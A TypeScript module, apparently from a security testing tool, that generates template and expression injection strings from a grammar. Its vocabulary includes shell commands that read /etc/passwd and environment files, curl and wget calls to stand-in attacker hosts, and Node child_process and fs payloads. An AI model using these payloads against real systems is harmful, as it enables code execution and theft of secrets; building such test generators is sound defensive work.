import type { Source } from '../../../../../packages/core/src/values/value.js';
import type { Random } from '../../random.js';
import type { Attack, Generator } from '../attack.js';
import { type Rules, writeByGrammar, writeDistinct } from '../grammar.js';

/** One kind of template or expression injection; its rule `start` writes the text. */
export interface TemplateGrammar {
  readonly name: string;
  /** The engines or expression languages that read it. */
  readonly engines: readonly string[];
  readonly location?: Source;
  readonly rules: Rules;
}

/**
 * A generator of texts that a template engine or an expression language evaluates. The grammar's own braces are taken:
 * `{o}` and `{c}` stand for two opening and closing ones, `{l}` and `{r}` for one.
 */
export function templateGenerator(grammar: TemplateGrammar): Generator {
  return {
    family: 'template',
    name: grammar.name,
    generate: (random, count) =>
      writeDistinct(
        count,
        () => writeAttack(random, grammar),
        ({ text, position }) => `${position.dialect} ${text}`,
      ),
  };
}

function writeAttack(random: Random, { name, engines, location, rules }: TemplateGrammar): Attack {
  return {
    family: 'template',
    text: writeByGrammar(random, { ...VOCABULARY, ...rules }),
    position: { ...(location === undefined ? {} : { location }), context: 'template', dialect: random.pick(engines) },
    origin: name,
    mutations: [],
  };
}

const VOCABULARY: Rules = {
  o: () => '{{',
  c: () => '}}',
  l: () => '{',
  r: () => '}',
  before: ['', '', '', 'Hello ', '{letters}', 'Dear ', '1 ', 'x'],
  after: ['', '', '', '!', ' {letters}', ' bye'],
  digit: (random) => String(1 + random.below(9)),
  number: (random) => String(10 + random.below(990)),
  letters: (random) => Array.from({ length: 4 }, () => String.fromCharCode(97 + random.below(26))).join(''),
  host: (random) =>
    random.pick(['evil.example', '203.0.113.7', 'x.oast.example', 'a.b.example.net:1389', '198.51.100.9:8080']),
  command: [
    'id',
    'whoami',
    'ls',
    'ls -la',
    'cat /etc/passwd',
    'uname -a',
    'sleep {digit}',
    'curl {host}',
    'hostname',
    'env',
    'touch /tmp/{letters}',
    'ping -c1 {host}',
    'wget http://{host}/',
  ],
  file: ['/etc/passwd', '/etc/hosts', '/proc/self/environ', '.env', '/app/config.json'],
  s: [' ', ' ', '', '  '],
  /** Node: what there is to do once code runs. */
  node: [
    "process.mainModule.require('child_process').execSync('{command}')",
    "global.process.mainModule.require('child_process').execSync('{command}').toString()",
    "process.mainModule.require('fs').readFileSync('{file}')",
    "global.process.mainModule.constructor._load('child_process').execSync('{command}')",
    'process.env',
    'process.exit()',
    "process.mainModule.require('child_process').exec('{command}')",
    'global.process.env.PATH',
    "process.binding('spawn_sync')",
    "process.mainModule.require('os').hostname()",
    "globalThis.process.mainModule.require('child_process').spawnSync('{command}')",
  ],
};
